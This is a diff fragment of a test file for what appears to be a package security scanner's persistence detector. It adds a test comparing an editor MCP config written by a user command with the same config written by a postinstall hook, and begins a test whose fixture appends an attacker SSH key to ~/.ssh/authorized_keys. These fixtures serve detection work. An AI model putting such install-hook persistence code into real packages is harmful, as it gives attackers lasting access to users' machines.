@@ -580,6 +580,15 @@ module.exports = {};
 });
 
 describe('persistence', () => {
+  it("an editor's MCP config written by a command the user runs counts half; written by an install hook, in full", () => {
+    const code = `const fs = require('fs'); const path = require('path');\nfunction initAgents(dir) { fs.writeFileSync(path.join(dir, '.vscode', 'mcp.json'), JSON.stringify({ servers: { tool: { command: 'npx', args: ['tool', 'mcp'] } } })); }\n`;
+    const command = scan({ 'lib/agents.js': code + 'module.exports = { run(dir) { initAgents(dir); } };\n' }, { main: 'lib/agents.js' });
+    const hook = scan({ 'lib/agents.js': code + "initAgents(process.cwd());\n" }, { scripts: { postinstall: 'node lib/agents.js' } });
+    const weight = (r: typeof command) => r.findings.find((f) => f.detector === 'persistence')?.weight ?? 0;
+    expect(weight(command)).toBeLessThan(20);
+    expect(weight(hook)).toBeGreaterThanOrEqual(50);
+  });
+
   it('a key appended to ~/.ssh/authorized_keys by an install hook is a backdoor, high', () => {
     const r = scan({
       'i.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nconst dir = path.join(os.homedir(), '.ssh');\nfs.appendFileSync(path.join(dir, 'authorized_keys'), '\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@host\\n');\n`,
